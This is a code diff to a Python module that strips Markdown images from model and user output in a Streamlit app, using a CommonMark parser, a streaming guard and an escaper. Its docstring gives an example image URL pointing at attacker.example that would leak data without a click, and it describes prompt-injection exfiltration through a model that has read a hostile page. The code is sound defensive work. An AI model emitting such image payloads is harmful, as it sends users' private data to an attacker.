@@ -1,51 +1,174 @@
-"""Markdown from the model, made safe to draw.
+"""Markdown from the model or a user, made safe to draw.
 
 A reply is Markdown written by a model that may have read a hostile page or
-document. An image in it is fetched by the reader's browser as soon as it is
+document. An image in it is fetched by every reader's browser as soon as it is
 drawn, so `![x](https://attacker.example/?q=<your data>)` would send data out
-without a click (prompt-injection exfiltration). Images outside code become plain
-links: visible, and fetched only if the reader clicks. Code is left exactly as
-written. (Raw HTML needs nothing here: `st.markdown` escapes it.)
+without a click (prompt-injection exfiltration). No image may reach the renderer.
+
+Where the images are is decided by a real CommonMark + GFM-tables parser
+(markdown-it-py, the Python port of the parser the field uses), never a regex:
+images hide in reference definitions further down, code spans inside the alt
+text, tables, lists, quotes and links. Every `![` outside code is broken: a real
+image becomes a link labelled `image: ...` (visible, fetched only if the reader
+clicks), any other `![` is escaped. Code is left as written, with one exception:
+Streamlit's renderer knows constructs the parser does not (math `$...$`, the
+directives behind `:red[...]`, footnotes), and those can move where code starts
+and ends. When a text has any of them, a `![` inside code gets an invisible word
+joiner between its two characters: no image, in any reading. The parser does not
+decide safety alone either: the result is parsed again, and if an image were
+still found every `![` would be broken the same way.
+
+Raw HTML needs nothing here: `st.markdown` draws it as text.
 """
 
 from __future__ import annotations
 
 import re
-from collections.abc import Iterable, Iterator
+from collections.abc import Iterable, Iterator, Sequence
+from functools import cache
 
-# Fenced blocks (``` or ~~~, to the matching fence or the end) and inline code spans.
-_CODE = re.compile(r"(^[ \t]*(`{3,}|~{3,})[^\n]*\n.*?(?:^[ \t]*\2[ \t]*$|\Z)|(`+)(?:(?!\3).)+?\3)", re.S | re.M)
-# ![alt](target) and ![alt][ref] / ![alt][]; alt may hold one level of brackets.
-_IMAGE = re.compile(r"!\[((?:[^\[\]\\]|\\.|\[[^\[\]]*\])*)\](?=[(\[])")
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+
+IMAGE_OPENER = "!["
+WORD_JOINER = "\u2060"
+# Each `![` is tagged in a copy of the text with a run of private-use characters, so
+# the tokens tell which ones are code, which are images and which are neither.
+_TAG_OPEN, _TAG_CLOSE, _DIGIT_ZERO = "\ue000", "\ue001", 0xE010
+_TAG = re.compile(f"{_TAG_OPEN}([{chr(_DIGIT_ZERO)}-{chr(_DIGIT_ZERO + 9)}]+){_TAG_CLOSE}")
+_TAG_AT_END = re.compile(_TAG.pattern + r"\Z")
+_PRIVATE_TAG_CHARS = re.compile(f"[{_TAG_OPEN}{_TAG_CLOSE}{chr(_DIGIT_ZERO)}-{chr(_DIGIT_ZERO + 9)}]")
+# What Streamlit's renderer reads and CommonMark does not: math, directives and
+# `:material/...:` icons, footnotes.
+_RENDERER_ONLY = re.compile(r"\$|:[A-Za-z:\[]|\[\^")
+_CODE_TOKENS = {"code_inline", "fence", "code_block"}
+
+
+@cache
+def _parser() -> MarkdownIt:
+    # Streamlit's frontend renders CommonMark with GitHub's extensions; of those, only
+    # tables change where inline content (and so code) starts and ends.
+    return MarkdownIt("commonmark").enable(["table", "strikethrough"])
+
+
+def has_image(text: str) -> bool:
+    """Whether the parser finds an image anywhere in `text`."""
+    return IMAGE_OPENER in text and any(_images(_parser().parse(text)))
 
 
 def neutralise_images(text: str) -> str:
-    """Turn every Markdown image outside code into a link to the same target."""
-    if "![" not in text:
+    """`text` with no Markdown image left: images become links, code stays as written."""
+    if IMAGE_OPENER not in text:
         return text
-    out, position = [], 0
-    for code in _CODE.finditer(text):
-        out.append(_IMAGE.sub(_as_link, text[position : code.start()]))
-        out.append(code.group(0))
-        position = code.end()
-    out.append(_IMAGE.sub(_as_link, text[position:]))
-    return "".join(out)
+    pieces = text.split(IMAGE_OPENER)
+    if _PRIVATE_TAG_CHARS.search(text) is None:
+        in_code, images = _classify(pieces)
+        break_code = _RENDERER_ONLY.search(text) is not None
+        out = [pieces[0]]
+        for index, piece in enumerate(pieces[1:]):
+            if index in in_code:
+                opener = "!" + WORD_JOINER + "[" if break_code else IMAGE_OPENER
+            elif index in images:
+                opener = "[image: untitled" if piece.startswith("]") else "[image: "
+            elif _escaped(pieces[index]):
+                opener = IMAGE_OPENER  # `\![` already: one more backslash would escape the backslash
+            else:
+                opener = "\\!["
+            out.append(opener + piece)
+        safe = "".join(out)
+        if not has_image(safe):
+            return safe
+    # A text that carries the tags itself, or a reading the parser still calls an
+    # image: break every opener, code included.
+    return (IMAGE_OPENER[0] + WORD_JOINER + IMAGE_OPENER[1]).join(pieces)
 
 
-def _as_link(match: re.Match[str]) -> str:
-    return f"[image: {match.group(1) or 'untitled'}]"
+def _escaped(before: str) -> bool:
+    """Whether the character after `before` is escaped: an odd run of backslashes ends it."""
+    return (len(before) - len(before.rstrip("\\"))) % 2 == 1
 
 
-def neutralise_stream(chunks: Iterable[str]) -> Iterator[str]:
-    """`neutralise_images` for a reply still streaming: every `![` becomes `[image: `
-    as the text arrives (a `!` at the end of a chunk waits for the next one). Inside
-    code this differs from the final drawing until the reply ends and is drawn again."""
-    held = ""
-    for chunk in chunks:
-        text = held + chunk
-        held = "!" if text.endswith("!") else ""
-        text = (text[:-1] if held else text).replace("![", "[image: ")
-        if text:
-            yield text
-    if held:
-        yield held
+def _classify(pieces: Sequence[str]) -> tuple[set[int], set[int]]:
+    """Which of the `![` between `pieces` the parser reads as code, and which as images."""
+    tagged = pieces[0] + "".join(_tag(index) + IMAGE_OPENER + piece for index, piece in enumerate(pieces[1:]))
+    in_code: set[int] = set()
+    images: set[int] = set()
+    _walk(_parser().parse(tagged), in_code, images)
+    return in_code, images
+
+
+def _tag(index: int) -> str:
+    return _TAG_OPEN + "".join(chr(_DIGIT_ZERO + int(digit)) for digit in str(index)) + _TAG_CLOSE
+
+
+def _tag_numbers(text: str) -> Iterator[int]:
+    for match in _TAG.finditer(text):
+        yield int("".join(str(ord(char) - _DIGIT_ZERO) for char in match.group(1)))
+
+
+def _walk(tokens: Sequence[Token], in_code: set[int], images: set[int]) -> None:
+    previous: Token | None = None
+    for token in tokens:
+        if token.type in _CODE_TOKENS:
+            in_code.update(_tag_numbers(token.content))
+        if token.type == "image" and previous is not None and previous.type == "text":
+            # The tag stands right before the `!` of the image it marks.
+            tail = _TAG_AT_END.search(previous.content)
+            if tail is not None:
+                images.update(_tag_numbers(tail.group(0)))
+        if token.children:
+            _walk(token.children, in_code, images)
+        previous = token
+
+
+def _images(tokens: Sequence[Token]) -> Iterator[Token]:
+    for token in tokens:
+        if token.type == "image":
+            yield token
+        if token.children:
+            yield from _images(token.children)
+
+
+class GuardedStream:
+    """A reply still streaming, drawn safely at every moment.
+
+    The guard reads the whole text so far on every piece: a reference definition that
+    arrives later, or a table row that turns an earlier line into cells, changes how
+    earlier text reads. What is drawn grows by appending while the safe text only
+    grows; when it changes further back, the current run ends and the next one starts
+    again from the whole safe text (`st.write_stream` redraws the whole message on
+    every piece anyway, so a restart costs one ordinary redraw).
+    """
+
+    def __init__(self, chunks: Iterable[str]) -> None:
+        self._chunks = iter(chunks)
+        self.text = ""  # as the model wrote it
+        self.shown = ""  # as drawn: `neutralise_images(self.text)`
+        self.finished = False
+
+    def runs(self) -> Iterator[Iterator[str]]:
+        while not self.finished:
+            yield self._run()
+
+    def _run(self) -> Iterator[str]:
+        if self.shown:
+            yield self.shown
+        for chunk in self._chunks:
+            self.text += chunk
+            safe = neutralise_images(self.text)
+            if not safe.startswith(self.shown):
+                self.shown = safe
+                return  # drawn again from the start by the next run
+            delta, self.shown = safe[len(self.shown) :], safe
+            if delta:
+                yield delta
+        self.finished = True
+
+
+_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~$:=^])")
+
+
+def plain(text: str) -> str:
+    """Text drawn literally where Streamlit renders Markdown (labels, captions, titles):
+    nothing a user, a model or a server wrote becomes formatting, a link or an image."""
+    return _MARKDOWN_SPECIAL.sub(r"\\\1", text).replace("\r", " ").replace("\n", " ")
